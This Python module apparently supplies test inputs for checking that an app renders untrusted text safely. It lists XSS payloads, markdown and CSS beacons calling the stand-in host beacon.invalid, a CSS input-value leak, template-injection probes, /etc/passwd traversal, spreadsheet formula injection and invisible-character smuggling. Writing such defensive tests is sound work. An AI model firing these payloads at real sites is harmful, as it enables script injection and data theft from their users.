"""Texts that would do something if a page read them as anything but text: 515 known ones and ours."""

from __future__ import annotations

import json
from pathlib import Path

BEACON = "http://beacon.invalid"
"""A name that no name server knows; a page that asks for it is found out by the request itself."""
RUNS = "window.ran=1"
NAUGHTY: list[str] = json.loads((Path(__file__).parents[1] / "data" / "blns" / "blns.json").read_text("utf-8"))
OURS = [
    # Markdown
    f"![a]({BEACON}/md1)",
    f"![a][ref]\n\n[ref]: {BEACON}/md2",
    f"[![a]({BEACON}/md3)](javascript:{RUNS})",
    f"[click](javascript:{RUNS})",
    f"[click](data:text/html,<script>{RUNS}</script>)",
    f"<{BEACON}/autolink>",
    f"# heading ![a]({BEACON}/md4)",
    f"> quote ![a]({BEACON}/md5)",
    f"- item ![a]({BEACON}/md6)",
    f"| a |\n| - |\n| ![a]({BEACON}/md7) |",
    f"```html\n<img src={BEACON}/md8>\n```",
    f"`` ` `` ![a]({BEACON}/md9)",
    "![a](//beacon.invalid/md10)",
    "![a](\\\\beacon.invalid\\md11)",
    f"text[^1]\n\n[^1]: ![a]({BEACON}/md12)",
    # directives and icons of Streamlit
    ":red[Saved. You are signed out.]",
    ":red-background[warning]",
    ":green-badge[approved]",
    ":blue[:material/check_circle: approved]",
    ":material/home: :material/delete:",
    ":streamlit: :smile: :tada:",
    ":small[fine print] :rainbow[win]",
    f":red[![a]({BEACON}/dir1)]",
    "<-> -> <- -- >= <= ~=",
    # HTML
    f"<img src='{BEACON}/h1' onerror='{RUNS}'>",
    f"<IMG SRC={BEACON}/h2 ONLOAD={RUNS}>",
    f"<img srcset='{BEACON}/h3 2x'>",
    f"<script>{RUNS}</script>",
    f"<script src={BEACON}/h4></script>",
    f"</p></div><script>{RUNS}</script>",
    f"<iframe src={BEACON}/h5></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<object data={BEACON}/h6></object><embed src={BEACON}/h7>",
    f"<video poster={BEACON}/h8 src={BEACON}/h9 autoplay></video>",
    f"<audio src={BEACON}/h10 autoplay></audio>",
    f"<link rel=stylesheet href={BEACON}/h11>",
    f"<link rel=prefetch href={BEACON}/h12><link rel=dns-prefetch href=//beacon.invalid>",
    f"<meta http-equiv=refresh content='0;url={BEACON}/h13'>",
    f"<base href={BEACON}/>",
    f"<body background={BEACON}/h14 onload={RUNS}>",
    f"<table background={BEACON}/h15><tr><td>x</table>",
    f"<input type=image src={BEACON}/h16 autofocus onfocus={RUNS}>",
    f"<form action={BEACON}/h17><button formaction={BEACON}/h18>Submit and next</button></form>",
    f"<details open ontoggle={RUNS}><summary>x</summary></details>",
    f"<a href='javascript:{RUNS}' ping={BEACON}/h19>Sign in again</a>",
    f"<template><img src={BEACON}/h20></template><slot onslotchange={RUNS}></slot>",
    f"<noscript><p title='</noscript><img src={BEACON}/h21 onerror={RUNS}>'></noscript>",
    f"<!--><img src={BEACON}/h22 onerror={RUNS}>-->",
    f"<![CDATA[<img src={BEACON}/h23>]]>",
    f"<x-y onclick={RUNS} style='position:fixed;inset:0'>",
    # CSS, SVG, MathML
    f"<style>@import url({BEACON}/c1);body{{background:url({BEACON}/c2)}}</style>",
    f"<p style='background-image:url({BEACON}/c3);position:fixed;inset:0'>over all</p>",
    f"<style>input[value^=a]{{background:url({BEACON}/c4)}}</style>",
    f"}}body{{background:url({BEACON}/c5)}}",
    f"<svg onload={RUNS}><image href={BEACON}/s1 xlink:href={BEACON}/s2 /></svg>",
    f"<svg><use href={BEACON}/s3#a /><script>{RUNS}</script></svg>",
    f"<svg><foreignObject><img src={BEACON}/s4></foreignObject></svg>",
    f"<svg><animate attributeName=href values=javascript:{RUNS} /><a><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src={BEACON}/m1 onerror={RUNS}></style></mglyph></table></mtext></math>",
    f"<math href=javascript:{RUNS}>x</math>",
    # TeX and diagrams
    "$\\href{javascript:window.ran=1}{x}$ $\\includegraphics{http://beacon.invalid/t1}$",
    "$$\\def\\a{\\a\\a}\\a$$ $" + "\\frac{1}{" * 40 + "x" + "}" * 40 + "$",
    f"```mermaid\ngraph TD; A[<img src='{BEACON}/d1' onerror='{RUNS}'>]\nclick A href 'javascript:{RUNS}'\n```",
    "```vega-lite\n{\"data\": {\"url\": \"http://beacon.invalid/d2\"}}\n```",
    # templates, formats, paths
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%}",
    "{name} {0} {count.__class__} %s %(name)s %n",
    "{words.gettext.__globals__}",
    "../../../../etc/passwd %2e%2e%2f file:///etc/passwd",
    "=HYPERLINK(\"http://beacon.invalid/x1\";\"open\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # what cannot be seen
    "pay \u202e001 tnalp\u202c now",
    "\u2067right\u2066left\u2069 \u200frl \u200elr",
    "join\u200bed soft\u00adhyphen word\u2060joiner\ufeff",
    "tags\U000e0068\U000e0069\U000e007f smuggled",
    "z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b\u030c zalgo",
    "\u2028line\u2029paragraph\u0085next",
    "[[[[[[[[[[((((((((((<<<<<<<<<<",
    "javascript&colon;window.ran=1 &lt;img src=x&gt; &#60;script&#62;",
]  # fmt: skip
assert len(OURS) >= 60


def on_one_line(texts: list[str]) -> list[str]:
    """For names: one line, nothing that names cannot hold, at most 200 characters."""
    lines = (" ".join("".join(sign if sign.isprintable() else " " for sign in text).split()) for text in texts)
    return list(dict.fromkeys(line[:200].strip() for line in lines if line.strip()))
